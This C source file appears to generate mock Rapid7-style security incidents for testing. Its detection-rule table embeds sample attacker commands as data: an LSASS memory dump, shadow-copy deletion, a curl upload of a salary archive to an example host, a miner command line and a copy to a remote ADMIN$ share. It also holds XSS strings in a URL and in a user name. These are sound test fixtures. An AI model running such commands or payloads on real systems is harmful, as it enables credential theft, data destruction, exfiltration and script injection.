#include <inttypes.h>
#include <stdio.h>
#include <string.h>

#include "mocksrv/rapid7/r7_world.h"
#include "sc/timefmt.h"

#define INCIDENT_PURPOSE 0x696e636964656e74 /* "incident" */
#define ALERT_PURPOSE    0x616c6572743a     /* "alert:" */
#define AT_PURPOSE       0x61742d7365636f6e /* "at-secon" */
#define SECOND           INT64_C(1000000)
#define DAY              (86400 * SECOND)
/* Every so manieth incident was opened by hand, from this one on. */
#define MANUAL       9
#define MANUAL_FIRST 5
/* Every so manieth one takes the next rule in turn. */
#define ROUND 4

#define COUNT(a) (sizeof(a) / sizeof((a)[0]))

static const struct r7_organization organizations[] = {
	{ "5f1c2d3e-0a1b-4c2d-8e3f-001122334455", "Nordwind Logistics", "us",
	    "us1", "a1b2c3d4-1111-4222-8333-444455556666", "Nordwind Logistics",
	    NULL, NULL, "EXAMPLE0TOKEN0NORDWIND" },
	{ "5f1c2d3e-0a1b-4c2d-8e3f-001122334466", "Kraków – Łódź", "us", "us1",
	    "a1b2c3d4-1111-4222-8333-444455556666", "Nordwind Logistics",
	    "NW-2", "europe", "EXAMPLE0TOKEN00KRAKOW0" },
	{ "5f1c2d3e-0a1b-4c2d-8e3f-001122334477", "Example Clinics", "us2",
	    "us2", "b1b2c3d4-1111-4222-8333-444455556677", "Example Clinics",
	    "EC-1", NULL, "EXAMPLE0TOKEN00CLINICS" },
	{ "5f1c2d3e-0a1b-4c2d-8e3f-001122334488", "北斗物流", "eu", "eu1",
	    "c1b2c3d4-1111-4222-8333-444455556688", "北斗物流", NULL, "asia",
	    "EXAMPLE0TOKEN000HOKUTO" },
};

#define ABA "Attacker Behavior Analytics"
#define UBA "User Behavior Analytics"
#define RESEMBLES                                                             \
	"Activity that resembles attacker behavior has been observed in the " \
	"network."

static const struct r7_rule rules[] = {
	{ "Suspicious Process - Execution From Root of ProgramData", RESEMBLES,
	    ABA, "EX0MPLE00001", { "Execution", "T1204.002", "TA0002" },
	    R7_EVENT_PROCESS, "MEDIUM",
	    "C:\\ProgramData\\upd.exe /s \"C:\\Users\\Öffentlich\"" },
	{ "Suspicious Process - Renamed WinRAR", RESEMBLES, ABA, "EX0MPLE00002",
	    { "TA0009", "T1560.001" }, R7_EVENT_PROCESS, "LOW",
	    "r.exe a -hp out.dat \\\\srv\\share\\*.xlsx" },
	{ "Multi-Factor Verification", RESEMBLES, ABA, "EX0MPLE00003",
	    { "Credential Access", "T1110" }, R7_EVENT_AUTH, "LOW", NULL },
	{ "Brute Force - Domain Account",
	    "Many failed logons of one account were seen.", UBA, "EX0MPLE00004",
	    { "T1110" }, R7_EVENT_AUTH, "HIGH", NULL },
	{ "Ingress From Disabled Account",
	    "A disabled user has logged on from outside.", UBA, NULL, { NULL },
	    R7_EVENT_AUTH, "CRITICAL", NULL },
	{ "Attacker Tool - Memory of LSASS Dumped", RESEMBLES, ABA,
	    "EX0MPLE00005", { "T1003.001", "TA0006" }, R7_EVENT_PROCESS,
	    "CRITICAL",
	    "rundll32.exe comsvcs.dll, MiniDump 624 c:\\t\\l.dmp full" },
	{ "Ransomware - Shadow Copies Deleted", RESEMBLES, ABA, "EX0MPLE00006",
	    { "Impact", "T1490", "T1486" }, R7_EVENT_PROCESS, "CRITICAL",
	    "vssadmin delete shadows /all /quiet" },
	{ "Account Created", "A new account has been created.", UBA, NULL,
	    { "T1136" }, R7_EVENT_AUTH, "LOW", NULL },
	{ "Phishing - Link Clicked in Mail", RESEMBLES, ABA, "EX0MPLE00007",
	    { "T1566.002", "TA0001" }, R7_EVENT_FORWARDED, "MEDIUM",
	    "\"C:\\Program Files\\Browser\\b.exe\" "
	    "http://login.example.net/?u=<script>alert(1)</script>" },
	{ "Malicious Hash On Asset", "A malicious hash was found on an asset.",
	    UBA, NULL, { "T1204" }, R7_EVENT_PROCESS, "HIGH",
	    "/tmp/.x/kworker-xm --url 198.51.100.77:3333" },
	{ "Data Exfiltration - Large Upload", RESEMBLES, ABA, "EX0MPLE00008",
	    { "TA0010", "T1567" }, R7_EVENT_FORWARDED, "INFO",
	    "curl -T 'Gehälter 2026.zip' https://files.example.net/" },
	{ "Remote File Copy - Unknown Service", RESEMBLES, ABA, "EX0MPLE00009",
	    { "Lateral Movement", "T1021.002", "TA0008" }, R7_EVENT_PROCESS,
	    "HIGH",
	    "cmd.exe /c copy a.exe \\\\192.0.2.10\\ADMIN$ && echo \"ok\"" },
};

static const struct r7_user users[] = {
	{ "Anna Bergström", "a.bergstrom", "a.bergstrom@nordwind.example.com",
	    "0d0c0b0a-0001-4000-8000-000000000001" },
	{ "Zoë Müller", "zoe.mueller", "zoe.mueller@nordwind.example.com",
	    "0d0c0b0a-0001-4000-8000-000000000002" },
	{ "Łukasz Żak", "lukasz.zak", NULL, NULL },
	{ "田中 愛", "ai.tanaka", "ai.tanaka@nordwind.example.com",
	    "0d0c0b0a-0001-4000-8000-000000000004" },
	{ "Service Backup", "svc_backup", NULL, NULL },
	{ "Seán O'Brien", "obrien", "obrien@clinics.example.com",
	    "0d0c0b0a-0001-4000-8000-000000000006" },
	{ "Жанна Иванова", "z.ivanova", "z.ivanova@clinics.example.com",
	    "0d0c0b0a-0001-4000-8000-000000000007" },
	{ "\"><img src=x onerror=alert(1)>", "m.dupre", NULL, NULL },
};

/* Twelve capital letters and digits; no two incidents share the last seven. */
static void
make_code(struct r7_incident *c, char out[13])
{
	static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
	uint64_t low = c->number * UINT64_C(1000000007) % UINT64_C(78364164096);

	for (unsigned i = 0; i < 5; i++)
		out[i] = digits[mock_rng_below(&c->rng, 36)];
	for (unsigned i = 5; i < 12; i++) {
		out[i] = digits[low % 36];
		low /= 36;
	}
	out[12] = '\0';
}

/* Some times have fewer digits: their zeros are not written. */
static int64_t
make_created(struct r7_incident *c, const struct mock_plan *p, uint64_t i)
{
	static const int64_t grains[] = { 1000, 1000, 1000, 10000, 100000,
		SECOND };
	int64_t slice = p->span_us / (int64_t)p->n;
	int64_t t = p->start_us + slice * (int64_t)i +
	    (int64_t)mock_rng_below(&c->rng, (uint64_t)slice);
	int64_t grain = grains[mock_rng_below(&c->rng, COUNT(grains))];

	return t - t % grain >= p->start_us ? t - t % grain : t;
}

void
r7_incident_make(struct r7_incident *c, const struct mock_plan *p, uint64_t i)
{
	char code[13], hex[33];

	*c = (struct r7_incident){
		.rng = mock_rng_key(p->seed, INCIDENT_PURPOSE, i), .number = i
	};
	c->manual = i % MANUAL == MANUAL_FIRST;
	c->org = &organizations[mock_rng_percent(&c->rng, 75)
		? 0
		: mock_rng_below(&c->rng, COUNT(organizations))];
	c->rule =
	    &rules[i % ROUND == 0 ? i / ROUND % COUNT(rules)
				  : mock_rng_below(&c->rng, COUNT(rules))];
	c->user = &users[mock_rng_below(&c->rng, COUNT(users))];
	c->created_us = make_created(c, p, i);
	make_code(c, code);
	(void)snprintf(c->rrn, sizeof(c->rrn),
	    "rrn:investigation:%s:%s:investigation:%s", c->org->region,
	    c->org->id, code);
	mock_random_hex(&c->rng, hex, 32);
	(void)snprintf(c->at_rrn, sizeof(c->at_rrn),
	    "rrn:alerts:%s:%s:alert:1:%s", c->org->at_name, c->org->id, hex);
	(void)snprintf(c->host, sizeof(c->host), "%s-%04X",
	    i % 3 == 0       ? "SRV"
		: i % 3 == 1 ? "büro"
			     : "LAPTOP",
	    (unsigned)mock_rng_below(&c->rng, 1 << 16));
	(void)snprintf(c->address, sizeof(c->address), "203.0.113.%u",
	    (unsigned)mock_rng_below(&c->rng, 254) + 1);
}

uint64_t
r7_incident_of(const struct mock_plan *records, uint64_t per, uint64_t i,
    struct mock_plan *plan)
{
	*plan = *records;
	plan->n = (records->n + per - 1) / per;
	i /= per;
	return i % MANUAL == MANUAL_FIRST ? i - 1 : i;
}

void
r7_at_alert_of(struct r7_incident *c, const struct mock_plan *p, uint64_t i,
    char rrn[R7_RRN_BUF])
{
	struct mock_plan incidents;
	uint64_t number = r7_incident_of(p, 1, i, &incidents);
	struct mock_rng r = mock_rng_key(p->seed, AT_PURPOSE, i);
	char hex[33];

	r7_incident_make(c, p, number);
	memcpy(rrn, c->at_rrn, R7_RRN_BUF);
	if (number == i)
		return;
	/* The second one of the incident. */
	mock_random_hex(&r, hex, 32);
	memcpy(rrn + strlen(rrn) - 32, hex, 32);
}

uint64_t
r7_alert_count(const struct r7_incident *c, const struct mock_plan *p)
{
	if (c->manual)
		return 0;
	return c->number % MANUAL == MANUAL_FIRST - 1 && c->number + 1 < p->n
	    ? 2 * R7_ALERTS_EACH
	    : R7_ALERTS_EACH;
}

/*
 * The first alert is what opens the investigation; others join it at once,
 * after minutes, or after weeks.
 */
int64_t
r7_alert_time(
    const struct r7_incident *c, const struct mock_plan *p, uint64_t j)
{
	struct mock_rng r = mock_rng_key(p->seed, ALERT_PURPOSE, c->number);
	int64_t end = p->start_us + p->span_us;
	int64_t first =
	    c->created_us - 1000 - (int64_t)mock_rng_below(&r, 40) * 1000;
	int64_t step = (int64_t)mock_rng_below(&r, 200) * SECOND;
	int64_t t;

	if (mock_rng_percent(&r, 10))
		step = 0;
	else if (mock_rng_percent(&r, 8))
		step = (int64_t)mock_rng_below(&r, 20) * DAY;
	if (first < p->start_us)
		first = p->start_us;
	t = first + step * (int64_t)j;
	return t < end ? t : end;
}

void
r7_put_time(struct sc_jw *w, const char *key, int64_t us, int digits)
{
	char text[SC_TIME_BUF];
	size_t n;

	(void)sc_time_format(us, digits, text);
	n = strlen(text) - 1; /* the Z */
	while (digits-- > 0 && text[n - 1] == '0')
		n--;
	if (text[n - 1] == '.')
		n--;
	text[n] = 'Z';
	text[n + 1] = '\0';
	sc_jw_kv(w, key, text);
}

void
r7_put_strings(
    struct sc_jw *w, const char *key, const char *const *texts, size_t max)
{
	sc_jw_key(w, key);
	sc_jw_arr(w);
	for (size_t i = 0; i < max && texts[i] != NULL; i++)
		sc_jw_str(w, texts[i]);
	sc_jw_end(w, ']');
}
